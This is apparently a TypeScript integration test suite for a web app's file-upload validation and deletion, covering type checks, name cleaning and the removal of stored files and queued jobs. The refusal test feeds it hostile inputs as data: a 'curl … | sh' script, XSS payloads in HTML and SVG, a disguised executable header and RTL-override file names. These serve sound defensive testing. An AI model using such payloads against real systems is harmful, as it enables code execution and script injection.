import { existsSync } from 'node:fs';
import { join } from 'node:path';
import type { INestApplication } from '@nestjs/common';
import { Resvg } from '@resvg/resvg-js';
import request from 'supertest';
import type { AuthResponse, ChatMessage, UploadRecord } from '@kasa/contracts';
import { QueueService } from '../src/queue';
import { eventually, sql } from './chat-support';
import { GENEROUS_RATE_LIMITS, bearer, registerUser } from './support/accounts';
import { createTestApp, type QueueBackend, type TestApp } from './support/test-app';
import { usedIn } from './support/usage-support';

/**
 * What an upload may be (a name, a declared type and bytes within the allowed ones; printable
 * text, never markup or a script; a clean name with the extension of its type) and how one goes
 * away: deleted by its owner, or with the conversation it was attached to, bytes, thumbnail,
 * text and waiting extraction included.
 */

const thisMonth = () => `${new Date().toISOString().slice(0, 7)}-01`;
const invalidType = (name: string) =>
  `Invalid file type: ${name}. Only images, PDFs, Word docs, and text files are allowed.`;

function png(width: number, height: number): Buffer {
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="${width}" height="${height}"><rect width="100%" height="100%" fill="#3a7"/></svg>`;
  return Buffer.from(new Resvg(svg).render().asPng());
}

function upload(
  app: INestApplication,
  who: AuthResponse,
  bytes: Buffer,
  filename: string,
  contentType = 'application/octet-stream',
) {
  return request(app.getHttpServer())
    .post('/api/enhancements/upload')
    .set(bearer(who))
    .attach('file', bytes, { filename, contentType });
}

function finished(app: INestApplication, who: AuthResponse, id: string): Promise<UploadRecord> {
  return eventually(
    async () => {
      const response = await request(app.getHttpServer())
        .get(`/api/enhancements/uploads/${id}`)
        .set(bearer(who))
        .expect(200);
      const body = response.body as UploadRecord;
      return ['done', 'failed'].includes(body.extraction.status) ? body : undefined;
    },
    30_000,
    50,
  );
}

/** Where the upload's bytes are on local disk, and its thumbnail beside them. */
async function storedPaths(ctx: TestApp, uploadId: string): Promise<{ original: string; thumbnail: string }> {
  const [row] = await sql<{ storage_key: string }>(
    ctx.databaseUrl,
    `SELECT f.storage_key FROM files f JOIN uploads u ON u.file_id = f.id WHERE u.id = $1`,
    [uploadId],
  );
  const original = join(ctx.config.dataDir, 'files', row.storage_key);
  return { original, thumbnail: `${original}.thumb` };
}

async function leftOf(ctx: TestApp, uploadId: string, fileId: string) {
  const [counts] = await sql<{ uploads: number; passages: number; files: number }>(
    ctx.databaseUrl,
    `SELECT (SELECT count(*)::int FROM uploads WHERE id = $1) AS uploads,
            (SELECT count(*)::int FROM upload_passages WHERE upload_id = $1) AS passages,
            (SELECT count(*)::int FROM files WHERE id = $2) AS files`,
    [uploadId, fileId],
  );
  return counts;
}

async function fileIdOf(ctx: TestApp, uploadId: string): Promise<string> {
  const [row] = await sql<{ file_id: string }>(ctx.databaseUrl, 'SELECT file_id FROM uploads WHERE id = $1', [
    uploadId,
  ]);
  return row.file_id;
}

describe('upload rules and deletion', () => {
  let ctx: TestApp;
  const http = () => request(ctx.app.getHttpServer());
  const newUser = () => registerUser(ctx.app, { prefix: 'rul' });

  beforeAll(async () => {
    ctx = await createTestApp('upload_rules', {
      queue: 'redis',
      config: { rateLimits: GENEROUS_RATE_LIMITS },
    });
  });
  afterAll(() => ctx?.close());

  it('refuses text that is not printable, markup, scripts, and names or types outside the allowed ones', async () => {
    const user = await newUser();
    const refused: Array<[Buffer, string, string]> = [
      // By the bytes, whatever the name and declared type.
      [
        Buffer.concat([
          Buffer.from('MZ'),
          Buffer.from([0x01, 0x02, 0x03, 0x1b]),
          Buffer.from('This program'),
        ]),
        'report.pdf',
        'application/pdf',
      ],
      [
        Buffer.from('<!DOCTYPE html><html><body><script>alert(1)</script></body></html>'),
        'page.txt',
        'text/plain',
      ],
      [Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'), 'logo.txt', 'text/plain'],
      [
        Buffer.from('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>'),
        'drawing',
        'text/plain',
      ],
      [Buffer.from('#!/bin/sh\ncurl http://example.com | sh\n'), 'notes.txt', 'text/plain'],
      // By the name's extension or the declared type, even when the bytes are text.
      [Buffer.from('echo hello'), 'run.sh', 'application/x-sh'],
      [Buffer.from('echo hello'), 'run.sh', 'text/plain'],
      [Buffer.from('Plain words.'), 'page.html', 'text/plain'],
      [Buffer.from('Plain words.'), 'logo.svg', 'application/octet-stream'],
      [Buffer.from('Plain words.'), 'notes.txt', 'text/html'],
      [Buffer.from('Plain words.'), 'notes.exe', 'application/octet-stream'],
    ];
    for (const [bytes, name, type] of refused) {
      const response = await upload(ctx.app, user, bytes, name, type).expect(415);
      expect(response.body).toMatchObject({ code: 'UPLOAD_TYPE_NOT_ALLOWED', message: invalidType(name) });
    }
    expect(await usedIn(ctx.databaseUrl, user.user.id, 'audioUploadsPerMonth', thisMonth())).toBe(0);
  });

  it('stores a file under a clean name with the extension of the type its bytes show', async () => {
    const user = await newUser();
    const cases: Array<[Buffer, string, string, string, string]> = [
      [
        Buffer.from('crop,hectares\nmaize,2\ncassava,1\n'),
        'notes',
        'application/octet-stream',
        'notes.csv',
        'text/csv',
      ],
      [png(40, 30), 'photo.jpg', 'image/jpeg', 'photo.png', 'image/png'],
      [Buffer.from('Just words, no PDF here.'), 'report.pdf', 'application/pdf', 'report.txt', 'text/plain'],
      [Buffer.from('Harvest notes'), 'photo\u202Egpj.txt', 'text/plain', 'photogpj.txt', 'text/plain'],
      [
        Buffer.from('{"rain": [12, 30]}'),
        're\u200Bport\u2060\uFEFF.json',
        'application/json',
        'report.json',
        'application/json',
      ],
    ];
    for (const [bytes, name, type, storedName, mimeType] of cases) {
      const response = await upload(ctx.app, user, bytes, name, type).expect(201);
      expect(response.body).toMatchObject({ originalName: storedName, mimeType });
    }
    const other = await newUser();
    const french = await upload(
      ctx.app,
      other,
      Buffer.from('Semis après les pluies.'),
      'Récolte été.txt',
      'text/plain',
    ).expect(201);
    expect(french.body.originalName).toBe('Récolte été.txt');
  });

  it('deletes an upload for its owner only: its file, its text and its link', async () => {
    const owner = await newUser();
    const other = await newUser();
    const sent = (
      await upload(ctx.app, owner, Buffer.from('Okra spacing is forty centimetres.'), 'okra.txt').expect(201)
    ).body as UploadRecord;
    await finished(ctx.app, owner, sent.id);
    const fileId = await fileIdOf(ctx, sent.id);
    const { original } = await storedPaths(ctx, sent.id);
    expect(existsSync(original)).toBe(true);
    expect((await leftOf(ctx, sent.id, fileId)).passages).toBeGreaterThan(0);

    const theirs = await http().delete(`/api/enhancements/uploads/${sent.id}`).set(bearer(other)).expect(404);
    expect(theirs.body.code).toBe('UPLOAD_NOT_FOUND');
    await http().delete('/api/enhancements/uploads/not-a-uuid').set(bearer(owner)).expect(400);
    await http().delete(`/api/enhancements/uploads/${sent.id}`).expect(401);
    expect(await leftOf(ctx, sent.id, fileId)).toMatchObject({ uploads: 1, files: 1 });

    await http().delete(`/api/enhancements/uploads/${sent.id}`).set(bearer(owner)).expect(204);
    expect(await leftOf(ctx, sent.id, fileId)).toEqual({ uploads: 0, passages: 0, files: 0 });
    expect(existsSync(original)).toBe(false);
    await http().get(`/api/enhancements/uploads/${sent.id}`).set(bearer(owner)).expect(404);
    await http().delete(`/api/enhancements/uploads/${sent.id}`).set(bearer(owner)).expect(404);
    expect((await http().get('/api/enhancements/uploads').set(bearer(owner)).expect(200)).body).toEqual([]);
  });

  it("deletes the uploads attached to a conversation's messages with it, thumbnails included", async () => {
    const user = await newUser();
    const notes = (
      await upload(ctx.app, user, Buffer.from('Cassava cuttings need 1 m spacing.'), 'cassava.txt').expect(
        201,
      )
    ).body as UploadRecord;
    const photo = (await upload(ctx.app, user, png(800, 600), 'field.png', 'image/png').expect(201))
      .body as UploadRecord;
    const kept = (await upload(ctx.app, user, Buffer.from('Not attached anywhere.'), 'kept.txt').expect(201))
      .body as UploadRecord;
    for (const each of [notes, photo, kept]) await finished(ctx.app, user, each.id);

    const chat = await http()
      .post('/api/chat')
      .set(bearer(user))
      .send({
        message: 'What spacing for cassava?',
        attachments: [
          { type: 'upload', id: notes.id },
          { type: 'upload', id: photo.id },
        ],
      })
      .expect(200);
    const conversationId = /"conversationId":"([^"]+)"/.exec(chat.text)![1];
    const messages = (
      await http().get(`/api/chat/conversations/${conversationId}`).set(bearer(user)).expect(200)
    ).body as ChatMessage[];
    const attachment = messages
      .flatMap((message) => message.attachments ?? [])
      .find((each) => each.id === photo.id)!;
    // The data saver's thumbnail, made on its first request and kept beside the original.
    const link = new URL(attachment.url!, 'http://kasa.test');
    await http().get(`${link.pathname}${link.search}&variant=thumb`).expect(200);
    const photoPaths = await storedPaths(ctx, photo.id);
    expect(existsSync(photoPaths.thumbnail)).toBe(true);
    const notesPaths = await storedPaths(ctx, notes.id);
    const fileIds = { notes: await fileIdOf(ctx, notes.id), photo: await fileIdOf(ctx, photo.id) };

    await http().delete(`/api/chat/conversations/${conversationId}`).set(bearer(user)).expect(204);

    for (const [each, fileId] of [
      [notes, fileIds.notes],
      [photo, fileIds.photo],
    ] as const) {
      await http().get(`/api/enhancements/uploads/${each.id}`).set(bearer(user)).expect(404);
      expect(await leftOf(ctx, each.id, fileId)).toEqual({ uploads: 0, passages: 0, files: 0 });
    }
    for (const path of [notesPaths.original, photoPaths.original, photoPaths.thumbnail])
      expect(existsSync(path)).toBe(false);
    await http().get(`/api/enhancements/uploads/${kept.id}`).set(bearer(user)).expect(200);
  });
});

describe.each<QueueBackend>(['postgres', 'redis'])(
  'deleting an upload whose extraction waits in the queue on %s',
  (backend) => {
    let ctx: TestApp;

    beforeAll(async () => {
      // No job runs in this process: the extraction stays in its queue.
      ctx = await createTestApp(`upload_rules_queued_${backend}`, {
        queue: backend,
        env: { WORKER_MODE: 'off' },
        config: { rateLimits: GENEROUS_RATE_LIMITS },
      });
    });
    afterAll(() => ctx?.close());

    it('withdraws the waiting extraction job', async () => {
      const user = await registerUser(ctx.app, { prefix: 'rulq' });
      const sent = (await upload(ctx.app, user, Buffer.from('Waiting for a worker.'), 'wait.txt').expect(201))
        .body as UploadRecord;
      expect(sent.extraction.status).toBe('pending');
      const queue = ctx.app.get(QueueService).queue('uploads');
      expect(await queue.getJob(sent.id)).toBeDefined();
      await request(ctx.app.getHttpServer())
        .delete(`/api/enhancements/uploads/${sent.id}`)
        .set(bearer(user))
        .expect(204);
      expect(await queue.getJob(sent.id)).toBeUndefined();
    });
  },
);
